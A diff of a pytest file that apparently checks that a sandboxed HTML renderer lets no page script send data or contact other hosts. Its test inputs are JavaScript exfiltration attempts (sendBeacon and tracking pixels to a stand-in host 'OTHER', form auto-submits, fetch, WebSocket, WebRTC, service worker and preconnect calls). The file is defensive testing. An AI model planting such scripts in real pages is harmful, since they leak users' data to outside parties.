@@ -27,7 +27,8 @@ DRAW = "document.getElementById('root').innerHTML ="
 
 
 def shell(script: str) -> str:
-    return f"<!doctype html><meta charset=utf-8><title>สำนักงาน</title><div id=root>Loading...</div><script>{script}</script>"
+    head = "<!doctype html><meta charset=utf-8><title>สำนักงาน</title>"
+    return f"{head}<div id=root>Loading...</div><script>{script}</script>"
 
 
 @pytest.fixture
@@ -96,7 +97,7 @@ def test_pictures_styles_frames_and_fonts_cost_no_request(serve: Serve, render: 
     "script",
     [
         "fetch('/send', {method: 'POST', body: 'x'})",
-        "const f = document.createElement('form'); f.method = 'post'; f.action = '/send'; document.body.append(f); f.submit()",
+        "document.body.innerHTML += '<form method=post action=/send></form>'; document.forms[0].submit()",
         "const x = new XMLHttpRequest(); x.open('PUT', '/send'); x.send()",
         "new WebSocket('ws://' + location.host + '/send')",
         "new EventSource('/send')",
@@ -125,10 +126,10 @@ def test_nothing_is_sent_and_nobody_else_is_asked_and_the_page_is_not_whole(
     [
         "new RTCPeerConnection({iceServers: [{urls: 'stun:OTHER'}]}).createDataChannel('x')",
         "window.open('http://OTHER/'); window.open('/send')",
-        "const a = document.createElement('a'); a.href = '/send'; a.target = '_blank'; document.body.append(a); a.click()",
+        "document.body.insertAdjacentHTML('beforeend', '<a href=/send target=_blank>'); document.links[0].click()",
         "navigator.sendBeacon('http://OTHER/counter', 'x'); new Image().src = 'http://OTHER/pixel.gif'",
         "navigator.serviceWorker && navigator.serviceWorker.register('/send')",
-        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://OTHER'; document.head.append(l)",
+        "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=http://OTHER>')",
     ],
 )
 def test_what_brings_no_content_goes_nowhere(serve: Serve, render: Render, script: str) -> None:
